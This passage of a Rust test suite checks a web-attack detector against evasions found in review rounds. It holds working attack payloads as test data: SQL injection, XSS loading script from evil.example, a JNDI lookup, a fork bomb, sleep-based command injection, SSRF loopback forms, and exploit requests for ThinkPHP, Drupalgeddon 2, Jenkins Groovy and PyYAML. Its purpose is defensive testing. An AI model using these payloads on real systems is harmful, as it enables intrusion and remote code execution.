        ("url=ipv6-loopback:8080/", "ssrf-bare-local-host"),
        ("url=imap:127.0.0.1", "ssrf-internal-address"),
        (
            "c=f%28%20%29%7B%20f%7Cf%26%20%7D%3Bf",
            "rce-shell-fork-bomb",
        ),
        ("c=$%09%7B$b%7D(1)", "rce-php-variable-variable"),
        ("c=$%09%7Bname%7D", "rce-php-superglobal-spaced"),
        ("c=.shell%20whoami", "rce-shell-pipe-to-interpreter"),
        ("x=javas%09cript:alert(1)", "xss-js-uri"),
        ("x=!![%09]", "xss-js-obfuscation"),
    ] {
        let r = req("GET", &format!("/a?{query}"), &[("Host", "h")], b"");
        let hits = hits_of(&r);
        assert!(
            hits.iter().any(|h| &*h.rule_id == rule),
            "{query}: no {rule} in {:?}",
            hits.iter().map(|h| &*h.rule_id).collect::<Vec<_>>()
        );
    }
}

/// A JSON body whose one branch is nested deeper than serde_json's limit
/// (128), which Node (no limit), PHP (512), Jackson (1000), Python and Go
/// read: the application gets `q`, the SQL injection between two 20,000-byte
/// members. Specula could not parse the document and inspected it as one
/// raw `body` point of 40 KiB, whose middle is not inspected (head and tail
/// 16 KiB only): no hit at all. Severity: High.
#[test]
fn review25b_deep_json_branch_hides_padded_member() {
    let pad = "a".repeat(20_000);
    let body = format!(
        "{{\"p\":\"{pad}\",\"q\":\"1' UNION SELECT password FROM users--\",\"r\":\"{pad}\",\"d\":{}1{}}}",
        "[".repeat(200),
        "]".repeat(200)
    );
    let r = req(
        "POST",
        "/api",
        &[("Content-Type", "application/json")],
        body.as_bytes(),
    );
    let hits = hits_of(&r);
    assert!(
        hits.iter()
            .any(|h| h.class == AttackClass::Sqli && h.location == "body:json:q"),
        "{:?}",
        hits.iter()
            .map(|h| (&*h.rule_id, &h.location))
            .collect::<Vec<_>>()
    );
}

/// The same padding with a `text/json` body, which ASP.NET Core reads as
/// JSON (`SystemTextJsonInputFormatter`): inspected raw, its middle unseen.
/// Severity: High.
#[test]
fn review25b_text_json_padded_member_is_inspected() {
    let pad = "a".repeat(20_000);
    let body = format!(
        "{{\"p\":\"{pad}\",\"q\":\"1' UNION SELECT password FROM users--\",\"r\":\"{pad}\"}}"
    );
    let r = req(
        "POST",
        "/api",
        &[("Content-Type", "text/json")],
        body.as_bytes(),
    );
    let hits = hits_of(&r);
    assert!(
        hits.iter()
            .any(|h| h.class == AttackClass::Sqli && h.location == "body:json:q"),
        "{:?}",
        hits.iter()
            .map(|h| (&*h.rule_id, &h.location))
            .collect::<Vec<_>>()
    );
}

/// A 70,000-byte JSON body (Express's default limit is 100 kB, Spring and
/// PHP have none below megabytes): Specula keeps its first 64 KiB, which
/// hold the SQL injection in `q` at offset 30,000. The cut document does not
/// parse, so it was inspected as one raw `body` point of 64 KiB whose middle
/// is never inspected: no hit, though the application reads `q` and the
/// sensor holds its bytes. Severity: High.
#[test]
fn review25b_cut_json_body_members_are_inspected() {
    let doc = format!(
        "{{\"p\":\"{}\",\"q\":\"1' UNION SELECT password FROM users--\",\"r\":\"{}\"}}",
        "a".repeat(30_000),
        "b".repeat(40_000)
    );
    let mut r = req(
        "POST",
        "/api",
        &[("Content-Type", "application/json")],
        &doc.as_bytes()[..64 * 1024],
    );
    r.body_len = doc.len() as u64;
    let hits = hits_of(&r);
    assert!(
        hits.iter()
            .any(|h| h.class == AttackClass::Sqli && h.location == "body:json:q"),
        "{:?}",
        hits.iter()
            .map(|h| (&*h.rule_id, &h.location))
            .collect::<Vec<_>>()
    );
}

/// An attack urlencoded twice the ordinary way (PHP `urlencode`, Java
/// `URLEncoder`, a browser form: space as `+`) reaches an application that
/// decodes its parameter once more (`urldecode($_GET['id'])`, Java
/// `URLDecoder.decode(req.getParameter("id"))`, Python `unquote_plus`):
/// `1%2Bunion%2Bselect…` is `1+union+select…` in `$_GET` and `1 union
/// select…` after the second decoding, whose `+` is a space. Specula decodes
/// the value a second time in its layers, but with `+` kept, so it reads
/// `1+union+select+password+from+users` and no rule matches, while the
/// same value encoded twice with `%2520` is seen.
/// Severity: Medium (an attack the application receives is missed, given
/// the double decoding the layers exist for).
#[test]
fn review27a_double_form_encoding_plus_is_a_space() {
    let classes = |uri: &str| -> Vec<AttackClass> {
        hits_of(&req("GET", uri, &[], b""))
            .iter()
            .map(|h| h.class)
            .collect()
    };
    // The plain form and the `%20` double encoding are seen.
    let plain = "/?id=1+union+select+password+from+users";
    assert!(classes(plain).contains(&AttackClass::Sqli), "{plain}");
    let pct20 = "/?id=1%2520union%2520select%2520password%2520from%2520users";
    assert!(classes(pct20).contains(&AttackClass::Sqli), "{pct20}");
    // urlencode(urlencode("1 union select password from users")).
    for uri in [
        "/?id=1%2Bunion%2Bselect%2Bpassword%2Bfrom%2Busers",
        "/?id=%27%2Bunion%2Bselect%2Bpassword%2Bfrom%2Busers%2B--%2B",
    ] {
        assert!(classes(uri).contains(&AttackClass::Sqli), "{uri}");
    }
    // The same in a form body and a cookie (PHP `$_COOKIE` is urldecoded).
    let body = req(
        "POST",
        "/",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        b"id=1%2Bunion%2Bselect%2Bpassword%2Bfrom%2Busers",
    );
    assert!(hits_of(&body).iter().any(|h| h.class == AttackClass::Sqli));
}

/// NFKC, which the full-width fold stands for (`decode::fold_fullwidth`:
/// "as NFKC normalisation, Windows best-fit conversion … do"), also maps
/// the Small Form Variants U+FE50..U+FE6B to ASCII: `﹤` U+FE64 is `<`,
/// `﹥` U+FE65 is `>`, `﹙﹚` are `()`, `﹨` is `\`, `﹒` is `.`
/// (Python `unicodedata.normalize("NFKC", …)`, Java `Normalizer` NFKC,
/// ICU). An application that normalises input so reads
/// `﹤script src=//evil.example/x.js﹥` as a script tag; Specula folds only
/// U+FF01..U+FF5E and U+3000 and reports nothing, while the full-width
/// `＜script …＞` and the plain form are reported.
/// Severity: Medium (an attack the application receives is missed).
#[test]
fn review27a_nfkc_small_forms_fold_to_ascii() {
    let xss = |v: &str| {
        hits_of(&req("GET", &format!("/?x={}", pct(v)), &[], b""))
            .iter()
            .any(|h| h.class == AttackClass::Xss)
    };
    assert!(xss("<script src=//evil.example/x.js></script>"));
    assert!(xss("＜script src=//evil.example/x.js＞＜/script＞"));
    assert!(xss("﹤script src=//evil.example/x.js﹥﹤/script﹥"));
    assert!(xss("﹤svg onload=prompt﹙1﹚﹥"), "small parentheses");
    let ptrav = |v: &str| {
        hits_of(&req("GET", &format!("/?f={}", pct(v)), &[], b""))
            .iter()
            .any(|h| h.class == AttackClass::Ptrav)
    };
    assert!(ptrav("..\\..\\..\\windows\\win.ini"));
    assert!(
        ptrav("..﹨..﹨..﹨windows﹨win.ini"),
        "small reverse solidus"
    );
}

/// Rules among `hits` for `payload` sent as `?q=` (percent-encoded).
fn review29b_query_rules(payload: &str) -> Vec<String> {
    let r = req(
        "GET",
        &format!("/search?q={}", pct(payload)),
        BROWSER_HEADERS,
        b"",
    );
    hits_of(&r).iter().map(|h| h.rule_id.to_string()).collect()
}

/// The time-based blind command injection probe `;sleep 5` (Burp's active
/// scan, commix, PayloadsAllTheThings "Time based data exfiltration"):
/// `system("ping -c 1 " . $ip)` with `ip=;sleep 5` makes `/bin/sh -c` run
/// `sleep 5`, and the response delay confirms the injection. Specula's
/// `rce-unix-command-chain` takes `sleep` only at the end of the value or
/// before an operator, an option or `${IFS}`: a separator, `sleep`, a space
/// and a number (the one argument sleep takes) gave no hit at all, while
/// `;sleep${IFS}5` and `$(sleep 5)` are reported. A sentence that goes on
/// after the number ("; sleep 8 hours") stays clean. Severity: High.
#[test]
fn review29b_blind_sleep_command_injection_is_reported() {
    let mut missed = Vec::new();
    for payload in [
        ";sleep 5",
        ";sleep 5;",
        "|sleep 5",
        "& sleep 5 &",
        "&& sleep 10",
        "|| sleep 10 ||",
        "127.0.0.1\nsleep 5",
        "x;sleep 5#",
        ";timeout 5",
    ] {
        let rules = review29b_query_rules(payload);
        if !rules.iter().any(|r| r == "rce-unix-command-chain") {
            missed.push((payload, rules));
        }
    }
    assert!(missed.is_empty(), "not reported: {missed:?}");
    for benign in ["Get some rest; sleep 8 hours a night", "sleep 5 hours"] {
        assert_eq!(
            review29b_query_rules(benign),
            Vec::<String>::new(),
            "{benign}"
        );
    }
}

/// Loopback written with the short IPv4 forms every resolver accepts:
/// `inet_aton` (glibc `getaddrinfo`, curl, Python `socket`, Go's
/// `net.ParseIP` fallback through the C resolver) reads `127.1` as
/// 127.0.0.1, `127.0.1` as 127.0.0.1 and `0` as 0.0.0.0, which Linux
/// routes to the local host (`inet_addr_type`: INADDR_ANY is local).
/// PayloadsAllTheThings' SSRF "Bypass using a decimal IP location" list and
/// every SSRF filter-bypass cheat sheet open with `http://127.1/` and
/// `http://0/`. Specula reports `http://127.0.0.1/`, `http://0.0.0.0/` and
/// `http://0:80/`, but these gave no hit at all. A host that only starts
/// with those digits (`0.gravatar.com`, `127.example`) stays clean.
/// Severity: High.
#[test]
fn review29b_short_loopback_ssrf_is_reported() {
    let mut missed = Vec::new();
    for payload in [
        "http://127.1/",
        "http://127.1:8080/admin",
        "http://127.0.1/",
        "http://0/",
        "http://0/admin",
        "gopher://127.1:6379/_INFO",
        "http://127.1",
    ] {
        let rules = review29b_query_rules(payload);
        if !rules.iter().any(|r| r.starts_with("ssrf-")) {
            missed.push((payload, rules));
        }
    }
    assert!(missed.is_empty(), "not reported: {missed:?}");
    for benign in [
        "https://0.gravatar.com/avatar/abc",
        "https://127.example.org/x",
        "http://01.org/",
    ] {
        assert_eq!(
            review29b_query_rules(benign),
            Vec::<String>::new(),
            "{benign}"
        );
    }
}

/// Template-injection probes and payloads from PayloadsAllTheThings'
/// SSTI page and the Tplmap / SSTImap detection set: `{{7*'7'}}` (the
/// Jinja2-versus-Twig probe: `7777777` or `49`), Thymeleaf's selection
/// expression `*{7*7}`, Razor's `@(7*7)`, Twig's `filter` and `reduce`
/// filters calling `system` (`{{['id']|filter('system')}}`, the Twig 3
/// RCE), and EL's `${class.getClassLoader()}`. The siblings `{{'7'*7}}`,
/// `@{7*7}`, `*{T(...)}`, `{{['id']|map('system')}}` and `${x.getClass()}`
/// are reported; these gave no hit at all. Prose with arithmetic in
/// parentheses or braces stays clean. Severity: Medium.
#[test]
fn review29b_template_probes_are_reported() {
    let mut missed = Vec::new();
    for payload in [
        "{{7*'7'}}",
        "{{ 7 * \"7\" }}",
        "*{7*7}",
        "@(7*7)",
        "{{['id']|filter('system')}}",
        "{{[0]|reduce('system','id')}}",
        "${class.getClassLoader()}",
    ] {
        let rules = review29b_query_rules(payload);
        if !rules.iter().any(|r| r.starts_with("ssti-")) {
            missed.push((payload, rules));
        }
    }
    assert!(missed.is_empty(), "not reported: {missed:?}");
    for benign in ["area (7*7) m2", "{7*7} grid", "3 * '7' inch"] {
        assert_eq!(
            review29b_query_rules(benign),
            Vec::<String>::new(),
            "{benign}"
        );
    }
}

/// A .NET BinaryFormatter stream in base64 (ysoserial.net `-f
/// BinaryFormatter -o base64`, the gadget chains of CVE-2019-0604
/// SharePoint, CVE-2020-25258, Telerik and DNN cookie exploits): every one
/// starts with the SerializationHeaderRecord `00 01 00 00 00 FF FF FF FF`,
/// `AAEAAAD/////` in base64. `BinaryFormatter.Deserialize` runs the gadget.
/// Specula reports the Java stream magic `rO0AB` but this gave no hit at
/// all. Severity: Medium.
#[test]
fn review29b_dotnet_binaryformatter_is_reported() {
    for payload in [
        "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I",
        "AAEAAAD/////AQAAAAAAAAAEAQAAACJTeXN0ZW0uRGVsZWdhdGVTZXJpYWxpemF0aW9uSG9sZGVy",
    ] {
        let rules = review29b_query_rules(payload);
        assert!(
            rules.iter().any(|r| r == "rce-java-serialized"),
            "{payload}: {rules:?}"
        );
    }
    assert_eq!(review29b_query_rules("AAEAAADAAAAA"), Vec::<String>::new());
}

/// Review round 30a. Defect: points past `max_points` (512) are dropped
/// and only counted (`point_limit_hits`, no hit), and the body is split
/// after the headers. A `Cookie` header of ~520 short cookies (3 KB, well
/// inside nginx's 8 KB `large_client_header_buffers` and Apache's 8 KB
/// `LimitRequestFieldSize`) spends the whole budget, so the form body that
/// PHP (`php_default_treat_data`, `$_POST`), Go (`ParseForm`) and Node
/// (`qs`) read in full is not inspected at all, and nothing says so
/// (cookies are not counted by `args-many`). Severity: High (every body
/// attack hidden by one padded header).
#[test]
fn review30a_cookie_flood_does_not_hide_the_body() {
    let cookies = vec!["a=1"; 520].join("; ");
    let r = req(
        "POST",
        "/login",
        &[
            ("Cookie", cookies.as_str()),
            ("Content-Type", "application/x-www-form-urlencoded"),
        ],
        b"user=1%27%20union%20select%20password%20from%20users--",
    );
    let hits = hits_of(&r);
    assert!(
        hits.iter().any(|h| h.class == AttackClass::Sqli),
        "body behind a cookie flood not inspected: {hits:?}"
    );
}

/// Review round 30a. Defect: a JSON body of ~520 short strings spends the
/// 512-point budget; members after them are not inspected, the raw body is
/// not handed on (it is only when the depth limit or a lenient reading
/// bit) and no hit records it. Back ends read every member (`JSON.parse`,
/// `json_decode`, Jackson, `encoding/json` have no member limit); JSON has
/// no `args-many` count. Severity: High (any JSON API attack hidden behind
/// a 3 KB array).
#[test]
fn review30a_json_member_past_the_point_budget_is_inspected() {
    let pad = vec!["\"x\""; 520].join(",");
    let body = format!("{{\"tags\":[{pad}],\"id\":\"1' union select password from users--\"}}");
    let r = req(
        "POST",
        "/api/items",
        &[("Content-Type", "application/json")],
        body.as_bytes(),
    );
    let hits = hits_of(&r);
    assert!(
        hits.iter().any(|h| h.class == AttackClass::Sqli),
        "member past the point budget not inspected: {hits:?}"
    );
}

/// Review round 30a. Defect: a form value of base64 shape costs three
/// points (name, value, decoded value), so 180 arguments (under the
/// `args-many` threshold of 255, so no hit) spend the 512-point budget and
/// the 181st argument, which PHP (`max_input_vars` 1000), Go and Node read,
/// is not inspected. Severity: High.
#[test]
fn review30a_form_argument_past_the_point_budget_is_inspected() {
    let mut body = String::new();
    for k in 0..180 {
        body.push_str(&format!("f{k}=aGVsbG8gd29ybGQh&"));
    }
    body.push_str("q=1%27%20union%20select%20password%20from%20users--");
    let r = req(
        "POST",
        "/form",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        body.as_bytes(),
    );
    let hits = hits_of(&r);
    assert!(
        !hits.iter().any(|h| &*h.rule_id == "protocol-args-many"),
        "under the argument count threshold"
    );
    assert!(
        hits.iter().any(|h| h.class == AttackClass::Sqli),
        "argument past the point budget not inspected: {hits:?}"
    );
}

/// As `review30a_form_argument_past_the_point_budget_is_inspected`, in the
/// query (a URL of ~5 KB, under nginx's 8 KB line limit): once the point
/// budget is spent, the query is inspected whole.
#[test]
fn query_argument_past_the_point_budget_is_inspected() {
    let mut uri = String::from("/search?");
    for k in 0..180 {
        uri.push_str(&format!("f{k}=aGVsbG8gd29ybGQh&"));
    }
    uri.push_str("q=1%27%20union%20select%20password%20from%20users--");
    let hits = hits_of(&req("GET", &uri, &[], b""));
    assert!(
        hits.iter()
            .any(|h| h.class == AttackClass::Sqli && h.location.starts_with("query")),
        "argument past the point budget not inspected: {hits:?}"
    );
}

/// Whether some SQL injection rule reports `payload` sent as `?q=`.
fn review31b_sqli_reported(payload: &str) -> bool {
    review29b_query_rules(payload)
        .iter()
        .any(|id| id.starts_with("sqli-") || id == "specula-sqli-lex")
}

/// MySQL's SELECT takes modifiers between the keyword and the projection
/// (`SELECT [ALL | DISTINCT | DISTINCTROW] [HIGH_PRIORITY] [STRAIGHT_JOIN]
/// [SQL_SMALL_RESULT] [SQL_BIG_RESULT] [SQL_BUFFER_RESULT] [SQL_NO_CACHE]
/// [SQL_CALC_FOUND_ROWS]`, `select_option` in sql_yacc.yy), so
/// `1 UNION SELECT SQL_NO_CACHE 1,2` runs the same UNION as
/// `1 UNION SELECT 1,2` (sqlmap and filter-evasion lists use them). Specula
/// read the modifier as a column name followed by a number (`UEn1`, no
/// shape) and `sqli-union-select` knew only ALL/DISTINCT/TOP: no SQL hit at
/// all, while `UNION SELECT DISTINCT 1,2` is reported. Severity: High.
#[test]
fn review31b_mysql_select_modifiers_are_read() {
    assert!(review31b_sqli_reported("1 union select distinct 1,2"));
    let missed: Vec<&str> = [
        "1 union select distinctrow 1,2",
        "1 union select sql_no_cache 1,2",
        "1 union select high_priority 1,2",
        "-1 union select sql_calc_found_rows 1,2",
        "1 union select straight_join 1,2",
    ]
    .into_iter()
    .filter(|p| !review31b_sqli_reported(p))
    .collect();
    assert!(missed.is_empty(), "missed: {missed:?}");
}

/// SQL Server (and Access/Sybase) quote identifiers with brackets:
/// `1 UNION SELECT [name],2 FROM [users]` is the same query as the unquoted
/// one, and tools bracket names to get past filters that look for a bare
/// word after SELECT. Specula's tokenizer read `[` and `]` as unknown bytes
/// (`UE?n?,1k?n?`, no shape) and `sqli-union-select` wanted a word, quote,
/// backtick or digit after SELECT: no SQL hit, while the unbracketed query
/// is reported. Severity: High.
#[test]
fn review31b_mssql_bracket_identifiers_are_names() {
    assert!(review31b_sqli_reported("1 union select name,2 from users"));
    assert!(review31b_sqli_reported(
        "' union select name,2 from users--"
    ));
    let missed: Vec<&str> = [
        "1 union select [name],2 from [users]",
        "' union select [name],2 from [users]--",
        "1 union select [password] from [dbo].[users]",
    ]
    .into_iter()
    .filter(|p| !review31b_sqli_reported(p))
    .collect();
    assert!(missed.is_empty(), "missed: {missed:?}");
}

/// MySQL accepts the ODBC escape `{ identifier expr }` anywhere an
/// expression goes and ignores the identifier (`simple_expr: '{' ident expr
/// '}'` in sql_yacc.yy: `{fn user()}` is `user()`, `{d '2020-01-01'}` a
/// date); SQL Server's ODBC layer reads `{fn ...}` likewise. So
/// `1 AND {fn user()}=1` is the boolean-blind probe `1 AND user()=1`.
/// Specula read `{` and `}` as unknown bytes and `fn` as a name (`1&?nf()`),
/// no shape and no rule: not reported, while the plain probe is.
/// Severity: High.
#[test]
fn review31b_odbc_escapes_are_read_as_their_expression() {
    assert!(review31b_sqli_reported("1 and user()=1"));
    assert!(review31b_sqli_reported("1 and version()=1"));
    assert!(review31b_sqli_reported("1 or ascii(user())>64"));
    let missed: Vec<&str> = [
        "1 and {fn user()}=1",
        "1 and {fn version()}=1",
        "1 or {fn ascii(user())}>64",
    ]
    .into_iter()
    .filter(|p| !review31b_sqli_reported(p))
    .collect();
    assert!(missed.is_empty(), "missed: {missed:?}");
}

/// MySQL's lexer reads `\N` as NULL (`sql_lex.cc`, `MY_LEX_ESCAPE`: "Allow
/// \N as shortcut for NULL"; MariaDB keeps it), and a keyword may follow it
/// with no space: `WHERE id=\Nunion select pass from users` is `NULL UNION
/// SELECT ...`, a known WAF evasion. Specula's `\bunion` needs a word
/// boundary, which `N` denies, and its SQL tokenizer reads `\N` as an
/// unknown byte and a name `Nunion`: no rule fired.
/// Severity: High.
#[test]
fn review33b_mysql_backslash_n_null_before_union() {
    for payload in [
        "\\Nunion select pass from users",
        "\\Nunion select 1,2",
        "\\Nunion(select pass from users)",
    ] {
        let r = req(
            "GET",
            &format!("/item?id={}", pct(payload)),
            BROWSER_HEADERS,
            b"",
        );
        let hits = hits_of(&r);
        assert!(
            hits.iter().any(|h| h.class == AttackClass::Sqli),
            "{payload}: {hits:?}"
        );
    }
}

/// A UTF-16 XML body (RFC 7303 §3, XML 1.0 Appendix F: a byte order mark,
/// or the zero bytes of `<?`): libxml2 (PHP `simplexml_load_string`,
/// lxml), Xerces/Woodstox (Spring `@RequestBody` XML, JAXB), .NET
/// `XmlReader` and expat read it as text and unescape `&lt;` in element
/// text. Specula walked its raw bytes: every other byte NUL, so no entity
/// was decoded (the NUL removal layer runs last, after the unescaping
/// ones): `&lt;script src=…&gt;`, `&#39; or &#39;1&#39;=&#39;1` and
/// `&#36;{jndi:…}` made no hit at all, and the locations held NULs.
/// Severity: High.
#[test]
fn review35b_utf16_xml_body_is_read_as_text() {
    let utf16 = |s: &str, bom: bool, be: bool| {
        let mut v: Vec<u8> = match (bom, be) {
            (false, _) => vec![],
            (true, false) => vec![0xFF, 0xFE],
            (true, true) => vec![0xFE, 0xFF],
        };
        for u in s.encode_utf16() {
            v.extend_from_slice(&if be { u.to_be_bytes() } else { u.to_le_bytes() });
        }
        v
    };
    for (payload, class) in [
        (
            "&lt;script src=//evil.example/x.js&gt;&lt;/script&gt;",
            AttackClass::Xss,
        ),
        ("1&#39; or &#39;1&#39;=&#39;1", AttackClass::Sqli),
        ("&#36;{jndi:ldap://evil.example/a}", AttackClass::Rce),
    ] {
        let x = format!(r#"<?xml version="1.0" encoding="UTF-16"?><c><q>{payload}</q></c>"#);
        for (bom, be, ct) in [
            (true, false, "application/xml"),
            (true, true, "text/xml"),
            (false, false, "application/soap+xml"),
            (true, false, ""),
            (false, true, ""),
        ] {
            let r = req("POST", "/ws", &[("Content-Type", ct)], &utf16(&x, bom, be));
            let h = hits_of(&r);
            assert!(
                h.iter()
                    .any(|h| h.class == class && h.location == "body:xml:/c/q"),
                "{payload} bom {bom} be {be} {ct:?}: {h:?}"
            );
        }
    }
}

/// An EBCDIC XML body (XML 1.0 Appendix F: `4C 6F A7 94` is `<?xm` in
/// IBM037): the JDK's Xerces (Spring, JAXB, any `DocumentBuilder`) detects
/// it and decodes it by its `encoding` declaration, so an attack in it
/// reaches a Java back end while no byte of it is ASCII text to a rule.
/// Specula neither decoded it nor recorded it (a Content-Type `charset`
/// naming the same charset is `protocol-charset-evasion`). Severity: High.
#[test]
fn review35b_ebcdic_xml_body_is_a_charset_evasion() {
    // `<?xml version="1.0" encoding="IBM037"?><q>' or 1=1--</q>` in IBM037.
    let ibm037 = |s: &str| -> Vec<u8> {
        s.bytes()
            .map(|b| match b {
                b'<' => 0x4C,
                b'?' => 0x6F,
                b'>' => 0x6E,
                b' ' => 0x40,
                b'=' => 0x7E,
                b'"' => 0x7F,
                b'\'' => 0x7D,
                b'.' => 0x4B,
                b'-' => 0x60,
                b'/' => 0x61,
                b'0'..=b'9' => 0xF0 + (b - b'0'),
                b'a'..=b'i' => 0x81 + (b - b'a'),
                b'j'..=b'r' => 0x91 + (b - b'j'),
                b's'..=b'z' => 0xA2 + (b - b's'),
                b'A'..=b'I' => 0xC1 + (b - b'A'),
                b'J'..=b'R' => 0xD1 + (b - b'J'),
                b'S'..=b'Z' => 0xE2 + (b - b'S'),
                _ => 0x40,
            })
            .collect()
    };
    let body = ibm037(r#"<?xml version="1.0" encoding="IBM037"?><q>' or 1=1--</q>"#);
    assert_eq!(body.get(..4), Some(&[0x4C, 0x6F, 0xA7, 0x94][..]));
    for ct in ["application/xml", "text/xml", ""] {
        let r = req("POST", "/ws", &[("Content-Type", ct)], &body);
        let h = hits_of(&r);
        assert!(
            h.iter().any(|h| &*h.rule_id == "protocol-charset-evasion"),
            "{ct:?}: {h:?}"
        );
    }
    // A UTF-8 document is no finding.
    let r = req(
        "POST",
        "/ws",
        &[("Content-Type", "application/xml")],
        br#"<?xml version="1.0" encoding="UTF-8"?><q>1</q>"#,
    );
    assert!(hits_of(&r).is_empty(), "{:?}", hits_of(&r));
}

/// An XML declaration naming a charset no rule can read (UTF-7, ISO-2022,
/// an EBCDIC code page by name), which libxml2 built with iconv and .NET
/// decode by the declaration, is a charset evasion (round 35b's
/// suspicion); the charsets rules read, or wide ones decoded, are not.
#[test]
fn an_xml_declaration_of_an_unreadable_charset_is_a_charset_evasion() {
    let xml = |decl: &str| {
        let body = format!("<?xml version=\"1.0\" {decl}?><q>+ADw-script+AD4-</q>");
        hits_of(&req(
            "POST",
            "/ws",
            &[("Content-Type", "application/xml")],
            body.as_bytes(),
        ))
    };
    let evasion = |h: &[Hit]| h.iter().any(|h| &*h.rule_id == "protocol-charset-evasion");
    for decl in [
        "encoding=\"UTF-7\"",
        "encoding='utf-7'",
        "encoding = \"ISO-2022-JP\"",
        "encoding=\"IBM037\"",
    ] {
        assert!(evasion(&xml(decl)), "{decl}: {:?}", xml(decl));
    }
    for decl in [
        "encoding=\"UTF-8\"",
        "encoding=\"ISO-8859-1\"",
        "standalone=\"yes\"",
        "",
    ] {
        assert!(!evasion(&xml(decl)), "{decl}: {:?}", xml(decl));
    }
}

/// The requests of `cases` (name, class, request) that get no hit of their
/// class.
fn review36a_misses(cases: &[(&str, AttackClass, Request)]) -> Vec<String> {
    cases
        .iter()
        .filter(|(_, class, r)| !hits_of(r).iter().any(|h| h.class == *class))
        .map(|(name, class, r)| format!("{} {name}: {:?}", class.as_str(), hits_of(r)))
        .collect()
}

/// ThinkPHP 5's router runs any public method it is pointed at: PHP runs
/// `\think\app::invokefunction('call_user_func_array', ['system', ['id']])`
/// for `?s=/index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id`
/// (CVE-2018-20062), and 5.0.23 lets `_method=__construct` overwrite the
/// request's filters (`filter[]=system`). Mirai and Mozi bots send these
/// every day. Specula had no hit on them: the dangerous function is a bare
/// value (`system`, `call_user_func_array`), not a call.
/// Severity: High (exploit in common use, no hit at all).
#[test]
fn review36a_thinkphp_rce_is_detected() {
    let form = &[("Content-Type", "application/x-www-form-urlencoded")][..];
    let cases = [
        ("invokefunction", AttackClass::Rce, req("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", &[], b"")),
        ("invokefunction encoded", AttackClass::Rce, req("GET", "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=md5&vars%5B1%5D%5B%5D=HelloThinkPHP21", &[], b"")),
        ("container", AttackClass::Rce, req("GET", "/index.php?s=index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1", &[], b"")),
        ("request input", AttackClass::Rce, req("GET", "/index.php?s=index/\\think\\Request/input&filter=system&data=id", &[], b"")),
        ("5.0.23 construct", AttackClass::Rce, req("POST", "/index.php?s=captcha", form, b"_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id")),
    ];
    let misses = review36a_misses(&cases);
    assert!(misses.is_empty(), "{}", misses.join("\n"));
}

/// Groovy runs a string as a process with `.execute()`: the Jenkins script
/// console runs `println "id".execute().text` (POST /script), the Script
/// Security sandbox bypass CVE-2019-1003000 compiles
/// `public class x {public x(){"id".execute()}}` from a GET, and
/// CVE-2019-1003029 fetches a jar with `@Grab`. Specula had no hit.
/// Severity: High.
#[test]
fn review36a_jenkins_groovy_execution_is_detected() {
    let form = &[("Content-Type", "application/x-www-form-urlencoded")][..];
    let cases = [
        ("script console", AttackClass::Rce, req("POST", "/script", form, b"script=println+%22id%22.execute%28%29.text&Submit=Run")),
        ("script text", AttackClass::Rce, req("POST", "/scriptText", form, b"script=def+sout+%3D+new+StringBuilder%28%29%0Adef+proc+%3D+%27id%27.execute%28%29%0Aproc.consumeProcessOutput%28sout%2C+sout%29")),
        ("list execute", AttackClass::Rce, req("POST", "/script", form, b"script=%5B%27bash%27%2C%27-c%27%2C%27id%27%5D.execute%28%29.text")),
        ("CVE-2019-1003000", AttackClass::Rce, req("GET", "/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public+class+x+%7Bpublic+x%28%29%7B%22id%22.execute%28%29%7D%7D", &[], b"")),
        ("@Grab", AttackClass::Rce, req("GET", "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=@GrabConfig(disableChecksums=true)%0a@GrabResolver(name=%27x%27,%20root=%27http://x/%27)%0a@Grab(group=%27p%27,%20module=%27n%27,%20version=%271%27)%0aimport%20Payload;", &[], b"")),
    ];
    let misses = review36a_misses(&cases);
    assert!(misses.is_empty(), "{}", misses.join("\n"));
}

/// Drupal's Form API calls the callbacks of a render array it builds from
/// the request (`#post_render`, `#lazy_builder`): Drupalgeddon 2
/// (CVE-2018-7600) posts `mail[#post_render][]=exec&mail[#markup]=id`.
/// Specula inspects these names and values but had no hit.
/// Severity: High.
#[test]
fn review36a_drupalgeddon2_is_detected() {
    let form = &[("Content-Type", "application/x-www-form-urlencoded")][..];
    let cases = [
        ("drupal 8", AttackClass::Rce, req("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", form, b"form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id")),
        ("drupal 7", AttackClass::Rce, req("POST", "/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", form, b"form_id=user_pass&_triggering_element_name=name")),
    ];
    let misses = review36a_misses(&cases);
    assert!(misses.is_empty(), "{}", misses.join("\n"));
}

/// Deserialisation payloads: PyYAML's unsafe loader runs
/// `!!python/object/apply:os.system ["id"]`, Psych builds the universal
/// Ruby gadget from `!ruby/object:Gem::Installer`, `pickle.loads` imports
/// `posix.system` from `cposix\nsystem\n` (also a base64 cookie, which
/// Specula decodes), XStream builds the NativeString chain, Json.NET
/// builds ysoserial.net's ObjectDataProvider from `$type`, Jackson the
/// logback JNDI source, and ASP.NET an unsigned ViewState's
/// BinaryFormatter gadget. Specula had no RCE hit on any (the Jackson one
/// only an SSRF hit for its ldap:// URL).
/// Severity: High (no hit at all for most).
#[test]
fn review36a_deserialisation_payloads_are_detected() {
    let json = &[("Content-Type", "application/json")][..];
    let yaml = &[("Content-Type", "application/x-yaml")][..];
    let xml = &[("Content-Type", "application/xml")][..];
    let form = &[("Content-Type", "application/x-www-form-urlencoded")][..];
    let cases = [
        ("pyyaml", AttackClass::Rce, req("POST", "/api", yaml, b"!!python/object/apply:os.system [\"id\"]")),
